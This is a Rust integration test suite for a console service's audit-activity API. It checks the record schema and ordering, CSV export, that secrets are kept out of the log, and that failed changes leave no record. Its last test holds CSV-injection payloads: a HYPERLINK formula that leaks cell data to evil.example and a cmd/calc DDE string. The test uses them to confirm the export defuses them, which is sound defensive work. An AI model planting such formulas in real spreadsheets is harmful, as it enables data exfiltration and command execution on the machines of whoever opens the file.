use std::collections::BTreeSet;

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::*;

const REQUIRED: [&str; 8] = [
    "service",
    "orgId",
    "timestamp",
    "audit",
    "auditType",
    "entity",
    "entityId",
    "userId",
];
const OPTIONAL: [&str; 5] = [
    "parentEntity",
    "parentEntityId",
    "entityAttribute",
    "entityAttributeValueFrom",
    "entityAttributeValueTo",
];

/// Parses RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "CSV ends with a line break"
    );
    rows
}

/// A cluster, a client of it, a member whose roles change, then the client deleted.
async fn make_changes(app: &TestApp, token: &str) -> (String, String) {
    let cluster = app.create_cluster(token, "audit, \"quoted\"").await;
    app.wait_healthy(token, &cluster).await;
    let client: Value = app
        .call(
            Method::POST,
            &format!("/clusters/{cluster}/clients"),
            token,
            Some(json!({"clientName": "audited"})),
        )
        .await
        .json()
        .await
        .unwrap();
    for roles in [json!(["developer"]), json!(["admin"])] {
        let response = app
            .call(
                Method::POST,
                "/members/audit@example.com",
                token,
                Some(json!({ "orgRoles": roles })),
            )
            .await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT);
    }
    let client_id = client["clientId"].as_str().unwrap();
    let path = format!("/clusters/{cluster}/clients/{client_id}");
    let deleted = app.call(Method::DELETE, &path, token, None).await;
    assert_eq!(deleted.status(), StatusCode::NO_CONTENT);
    (
        cluster,
        client["clientSecret"].as_str().unwrap().to_string(),
    )
}

#[tokio::test]
async fn activity_json_is_audit_dtos_newest_first() {
    let app = TestApp::spawn().await;
    let token = app.admin_token().await;
    let (cluster, _) = make_changes(&app, &token).await;
    let events = app.activity(&token).await;

    let allowed: BTreeSet<&str> = REQUIRED.iter().chain(&OPTIONAL).copied().collect();
    for event in &events {
        let object = event.as_object().unwrap();
        for key in REQUIRED {
            assert!(object.contains_key(key), "{key} missing in {event}");
        }
        for (key, value) in object {
            assert!(
                allowed.contains(key.as_str()),
                "unexpected {key} in {event}"
            );
            if key == "timestamp" {
                assert!(value.is_i64(), "timestamp must be a number of ms: {event}");
            } else {
                assert!(value.is_string(), "{key} must be a string: {event}");
            }
        }
        assert_eq!(event["orgId"], TestApp::org_of(&token));
        assert_eq!(event["service"], "console");
    }
    let stamps: Vec<i64> = events
        .iter()
        .map(|e| e["timestamp"].as_i64().unwrap())
        .collect();
    assert!(stamps.windows(2).all(|w| w[0] >= w[1]), "{stamps:?}");

    // Newest first: the client deletion, the role change, the invite, ... the cluster.
    let summary: Vec<(String, String)> = events
        .iter()
        .map(|e| {
            (
                e["entity"].as_str().unwrap().to_string(),
                e["auditType"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let expect = |entity: &str, kind: &str| (entity.to_string(), kind.to_string());
    assert_eq!(
        summary[..6],
        [
            expect("client", "d"),
            expect("member", "u"),
            expect("member", "c"),
            expect("client", "c"),
            expect("cluster", "u"),
            expect("cluster", "c"),
        ],
        "{events:#?}"
    );
    assert_eq!(events[0]["parentEntity"], "cluster");
    assert_eq!(events[0]["parentEntityId"], cluster.as_str());
    assert_eq!(events[1]["entityAttribute"], "roles");
    assert_eq!(events[1]["entityAttributeValueFrom"], "developer");
    assert_eq!(events[1]["entityAttributeValueTo"], "admin");
    assert_eq!(events[4]["userId"], "system:reconciler");
    assert_eq!(events[5]["userId"], CLIENT_ID);
    assert!(events[2].get("entityAttribute").is_none(), "{}", events[2]);
}

#[tokio::test]
async fn activity_csv_is_the_same_records_as_csv() {
    let app = TestApp::spawn().await;
    let token = app.admin_token().await;
    make_changes(&app, &token).await;
    let events = app.activity(&token).await;

    let response = app.get("/activity/csv", &token).await;
    assert_eq!(response.status(), StatusCode::OK);
    let content_type = response.headers()["content-type"].to_str().unwrap();
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let rows = parse_csv(&response.text().await.unwrap());
    let header = &rows[0];
    let expected_header: Vec<&str> = REQUIRED.iter().chain(&OPTIONAL).copied().collect();
    assert_eq!(header, &expected_header);
    assert_eq!(rows.len() - 1, events.len());
    for (row, event) in rows[1..].iter().zip(&events) {
        for (name, cell) in header.iter().zip(row) {
            let expected = match &event[name.as_str()] {
                Value::Null => String::new(),
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            assert_eq!(cell, &expected, "{name} of {event}");
        }
    }
    // The cluster name with a comma and quotes survived the round trip.
    assert!(rows.iter().any(|r| r[3].contains(r#"audit, \"quoted\""#)));
}

#[tokio::test]
async fn secrets_never_appear_in_the_activity() {
    let app = TestApp::spawn().await;
    let token = app.admin_token().await;
    let (_, client_secret) = make_changes(&app, &token).await;
    let json = app
        .get("/activity/json", &token)
        .await
        .text()
        .await
        .unwrap();
    let csv = app.get("/activity/csv", &token).await.text().await.unwrap();
    for text in [json, csv] {
        assert!(!text.contains(&client_secret));
        assert!(!text.contains(CLIENT_SECRET));
    }
}

/// One API call and what it must leave in the activity: nothing, or one record.
struct Change {
    method: Method,
    path: String,
    body: Option<Value>,
    status: StatusCode,
    /// `(entity, auditType)` of the one record a success writes.
    record: Option<(&'static str, &'static str)>,
}

fn change(
    method: Method,
    path: impl Into<String>,
    body: Option<Value>,
    status: StatusCode,
    record: Option<(&'static str, &'static str)>,
) -> Change {
    Change {
        method,
        path: path.into(),
        body,
        status,
        record,
    }
}

#[tokio::test]
async fn a_failed_change_leaves_no_record_and_a_successful_one_exactly_one() {
    // Provisioning never finishes, so the reconciler writes no records meanwhile.
    let app = TestApp::spawn_with(&["--max-members", "2", "--provision-delay", "1h"]).await;
    let token = app.admin_token().await;
    let cluster = app.create_cluster(&token, "counted").await;
    let mut bad_cluster = app.create_cluster_body(&token, "bad").await;
    bad_cluster["regionId"] = json!("nowhere");
    let good_cluster = app.create_cluster_body(&token, "good").await;
    let roles = |r: &str| Some(json!({ "orgRoles": [r] }));
    let unknown = "00000000-0000-4000-8000-000000000000";
    let clients = format!("/clusters/{cluster}/clients");
    let worker = Some(json!({"clientName": "worker"}));
    use StatusCode as S;

    let changes = [
        change(
            Method::POST,
            "/clusters",
            Some(bad_cluster),
            S::BAD_REQUEST,
            None,
        ),
        change(
            Method::DELETE,
            format!("/clusters/{unknown}"),
            None,
            S::NOT_FOUND,
            None,
        ),
        change(
            Method::POST,
            format!("/clusters/{unknown}/clients"),
            worker.clone(),
            S::NOT_FOUND,
            None,
        ),
        change(
            Method::POST,
            &clients,
            worker.clone(),
            S::OK,
            Some(("client", "c")),
        ),
        change(Method::POST, &clients, worker.clone(), S::BAD_REQUEST, None),
        change(
            Method::DELETE,
            format!("{clients}/{unknown}"),
            None,
            S::NOT_FOUND,
            None,
        ),
        change(
            Method::POST,
            "/members/bad",
            roles("admin"),
            S::BAD_REQUEST,
            None,
        ),
        change(
            Method::POST,
            "/members/a@example.com",
            roles("owner"),
            S::BAD_REQUEST,
            None,
        ),
        change(
            Method::POST,
            "/members/owner@consoled.local",
            roles("admin"),
            S::FORBIDDEN,
            None,
        ),
        change(
            Method::DELETE,
            "/members/owner@consoled.local",
            None,
            S::FORBIDDEN,
            None,
        ),
        change(
            Method::DELETE,
            "/members/a@example.com",
            None,
            S::NOT_FOUND,
            None,
        ),
        change(
            Method::POST,
            "/members/a@example.com",
            roles("admin"),
            S::NO_CONTENT,
            Some(("member", "c")),
        ),
        change(
            Method::POST,
            "/members/b@example.com",
            roles("admin"),
            S::FORBIDDEN,
            None,
        ),
        change(
            Method::POST,
            "/members/a@example.com",
            roles("visitor"),
            S::NO_CONTENT,
            Some(("member", "u")),
        ),
        change(
            Method::POST,
            "/members/a@example.com",
            roles("visitor"),
            S::NO_CONTENT,
            None,
        ),
        change(
            Method::DELETE,
            "/members/a@example.com",
            None,
            S::NO_CONTENT,
            Some(("member", "d")),
        ),
        change(
            Method::POST,
            "/clusters",
            Some(good_cluster),
            S::OK,
            Some(("cluster", "c")),
        ),
        change(
            Method::DELETE,
            format!("/clusters/{cluster}"),
            None,
            S::NO_CONTENT,
            Some(("cluster", "d")),
        ),
    ];
    for c in changes {
        let before = app.activity(&token).await;
        let response = app
            .call(c.method.clone(), &c.path, &token, c.body.clone())
            .await;
        let what = format!("{} {} {:?}", c.method, c.path, c.body);
        assert_eq!(response.status(), c.status, "{what}");
        let after = app.activity(&token).await;
        match c.record {
            None => assert_eq!(after, before, "{what} left a record"),
            Some((entity, kind)) => {
                assert_eq!(after.len(), before.len() + 1, "{what}");
                assert_eq!(after[1..], before[..], "{what}");
                assert_eq!(after[0]["entity"], entity, "{what}");
                assert_eq!(after[0]["auditType"], kind, "{what}");
                assert_eq!(after[0]["userId"], CLIENT_ID, "{what}");
            }
        }
    }

    // A token without the scope changes nothing either.
    let narrow = app.scoped_token("get:clusters get:activity").await;
    let before = app.activity(&token).await;
    let body = app.create_cluster_body(&token, "refused").await;
    let refused = app
        .call(Method::POST, "/clusters", &narrow, Some(body))
        .await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.activity(&narrow).await, before);
}

/// Cell texts a spreadsheet would run as a formula (OWASP's CSV injection examples).
const FORMULAS: [&str; 4] = [
    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
];

/// How a CSV cell must show a text value: with a `'` before a formula's first character.
fn defused(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_string()
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused() {
    let app = TestApp::spawn().await;
    let token = app.admin_token().await;
    let cluster = app.create_cluster(&token, "plain").await;
    let patch = |body: Value| {
        let path = format!("/clusters/{cluster}");
        let app = &app;
        let token = &token;
        async move {
            let response = app.call(Method::PATCH, &path, token, Some(body)).await;
            assert_eq!(response.status(), StatusCode::NO_CONTENT);
        }
    };
    // Names land in entityAttributeValueFrom/To, one rename after another.
    for name in FORMULAS {
        patch(json!({ "name": name })).await;
    }
    // Descriptions may also start with a tab or a carriage return.
    for description in FORMULAS.iter().copied().chain(["\tTAB", "\rCR"]) {
        patch(json!({ "description": description })).await;
    }
    // Secret names and member emails land in entityId.
    let secret_names = [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
        "+cmd|'/C'!A0",
        "-2+3",
        "@SUM(1)",
    ];
    for name in secret_names {
        let response = app
            .call(
                Method::POST,
                &format!("/clusters/{cluster}/secrets"),
                &token,
                Some(json!({"secretName": name, "secretValue": "v"})),
            )
            .await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT, "{name}");
    }
    for email in ["=1+2@example.com", "+cmd@example.com", "-2+3@example.com"] {
        let response = app
            .call(
                Method::POST,
                &format!("/members/{}", email.replace('+', "%2B")),
                &token,
                Some(json!({"orgRoles": ["developer"]})),
            )
            .await;
        assert_eq!(response.status(), StatusCode::NO_CONTENT, "{email}");
    }

    // The JSON activity shows the values as they are.
    let events = app.activity(&token).await;
    for value in FORMULAS {
        assert!(
            events.iter().any(|e| e["entityAttributeValueTo"] == value),
            "{value} in the JSON activity"
        );
    }

    let csv = app.get("/activity/csv", &token).await.text().await.unwrap();
    let rows = parse_csv(&csv);
    assert_eq!(rows.len() - 1, events.len());
    let header = &rows[0];
    let mut defused_cells = 0;
    for (row, event) in rows[1..].iter().zip(&events) {
        for (name, cell) in header.iter().zip(row) {
            let expected = match &event[name.as_str()] {
                Value::Null => String::new(),
                Value::String(s) => defused(s),
                other => other.to_string(),
            };
            assert_eq!(cell, &expected, "{name} of {event}");
            if cell.starts_with('\'') {
                defused_cells += 1;
            }
        }
    }
    // Renames: 4 to and 3 from; descriptions: 6 to and 5 from; 4 secrets; 3 members.
    assert_eq!(defused_cells, 4 + 3 + 6 + 5 + 4 + 3, "{csv}");
}
